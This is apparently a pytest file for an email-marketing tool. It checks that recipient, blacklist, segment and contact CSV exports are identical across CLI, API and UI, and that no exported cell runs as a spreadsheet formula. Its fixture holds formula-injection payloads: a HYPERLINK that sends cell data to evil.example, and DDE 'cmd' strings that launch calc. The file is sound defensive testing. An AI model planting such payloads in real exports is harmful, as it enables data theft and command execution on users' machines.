"""Each export is one function per noun (sendwell.exports): the CLI, the API and the UI write the same header
and the same rows, and no cell of any of them runs as a formula in a spreadsheet (issue 14, finding 5: a
contact field `=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)` came out of recipients.csv as is)."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys

import pytest
from sqlalchemy import update

from sendwell import blacklist, campaigns, contacts, segments
from sendwell.db.schema import recipients

SENDWELL = [sys.executable, "-m", "sendwell.cli"]
HOSTILE = {
    "company": '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")',
    "city": "+cmd|' /C calc'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "score": "-12",
}
_COMPANY = HOSTILE["company"].replace('"', '""')  # quoted in the CSV that is imported
PEOPLE = (
    "email,company,city,note,score\n"
    + "".join(
        f'{a},"{_COMPANY}",{HOSTILE["city"]},{HOSTILE["note"]},-12\n' for a in ("ann@example.com", "-joe@example.com")
    )
    + "bob@example.com,Bob Ltd,Paris,,7\n"
)
RUNS = ("=", "+", "-", "@", "\t", "\r")  # a first character that makes a spreadsheet cell a formula


@pytest.fixture
def data(web_engine) -> dict[str, str]:
    report = contacts.import_contacts(web_engine, io.BytesIO(PEOPLE.encode()), name="people.csv")
    assert report.imported == 3 and not report.rejected
    segments.create(web_engine, "vip", "")
    segments.add(web_engine, "vip", ["ann@example.com", "+tag@example.com", "-joe@example.com"])
    cid = campaigns.create_campaign(
        web_engine, name="news", subject="Hi", from_addr="shop@example.com", text="t", skip_verdicts=()
    )
    campaigns.start_campaign(web_engine, cid)
    with web_engine.begin() as conn:
        conn.execute(
            update(recipients).values(
                status="error", kind="address", smtp_code=550, enhanced_code="5.1.1", smtp_answer="-ERR =no such user"
            )
        )
    blacklist.add(
        web_engine, ["=x@example.com", "-joe@example.com", "bob@example.com"], reason="manual", note="=1+1"
    )  # after the campaign started: its audience leaves the black list out
    return {"cid": str(cid)}


def _cli(db_url: str, *args: str) -> str:
    env = {**os.environ, "SENDWELL_DATABASE_URL": db_url}
    r = subprocess.run([*SENDWELL, *args], capture_output=True, text=True, env=env, timeout=120)
    assert r.returncode == 0, r.stderr
    return r.stdout


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _three(db_url: str, api, ui, cli_args: tuple[str, ...], api_path: str, ui_path: str) -> list[list[str]]:
    from_api, from_ui = api.get(api_path), ui.get(ui_path)
    assert from_api.status_code == from_ui.status_code == 200, (from_api.text[:200], from_ui.text[:200])
    cli, web, page = _rows(_cli(db_url, *cli_args)), _rows(from_api.text), _rows(from_ui.text)
    assert cli[0] == web[0] == page[0]  # the same header…
    assert cli[1:] == web[1:] == page[1:]  # …and the same rows from every front end
    return cli


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert value[:1] not in RUNS or re.fullmatch(r"[+-]?[0-9][0-9.,]*", value), value


def test_recipients_export_is_alike_everywhere_and_runs_nothing(data, db_url, api, ui) -> None:
    cid = data["cid"]
    rows = _three(
        db_url,
        api,
        ui,
        ("campaigns", "recipients", "news", "--status", "error"),
        f"/api/v1/campaigns/{cid}/recipients.csv?status=error",
        f"/campaigns/{cid}/recipients.csv?status=error",
    )
    header = rows[0]
    assert header[:3] == ["email", "display", "status"] and {"company", "city", "note", "score"} <= set(header)
    by_email = {r[0]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    assert set(by_email) == {"ann@example.com", "'-joe@example.com", "bob@example.com"}
    ann = by_email["ann@example.com"]
    assert ann["company"] == "'" + HOSTILE["company"] and ann["city"] == "'" + HOSTILE["city"]
    assert ann["note"] == "'" + HOSTILE["note"] and ann["score"] == "-12"  # a number stays a number
    assert ann["smtp_answer"] == "'-ERR =no such user"
    _no_formula(rows)


def test_blacklist_export_is_alike_everywhere_and_runs_nothing(data, db_url, api, ui) -> None:
    rows = _three(db_url, api, ui, ("blacklist", "export"), "/api/v1/blacklist/export.csv", "/blacklist/export.csv")
    assert rows[0] == ["email", "display", "reason", "source", "note", "actor", "created_at"]
    assert [r[0] for r in rows[1:]] == ["'-joe@example.com", "'=x@example.com", "bob@example.com"]
    assert {r[4] for r in rows[1:]} == {"'=1+1"}
    _no_formula(rows)


def test_segment_export_is_alike_everywhere_and_runs_nothing(data, db_url, api, ui, web_engine) -> None:
    sid = segments.show(web_engine, "vip", limit=1).id
    rows = _three(
        db_url,
        api,
        ui,
        ("segments", "export", "vip"),
        f"/api/v1/segments/{sid}/export.csv",
        f"/segments/{sid}/export.csv",
    )
    assert rows[0] == ["email", "display", "added_at"]
    assert [r[0] for r in rows[1:]] == ["'+tag@example.com", "'-joe@example.com", "ann@example.com"]
    _no_formula(rows)


def test_contacts_export_is_alike_everywhere_and_runs_nothing(data, db_url, api, ui) -> None:
    rows = _three(db_url, api, ui, ("contacts", "export"), "/api/v1/contacts/export.csv", "/contacts/export.csv")
    assert rows[0] == ["email", "company", "city", "note", "score"]
    assert rows[1] == ["ann@example.com", *("'" + HOSTILE[k] for k in ("company", "city", "note")), "-12"]
    _no_formula(rows)
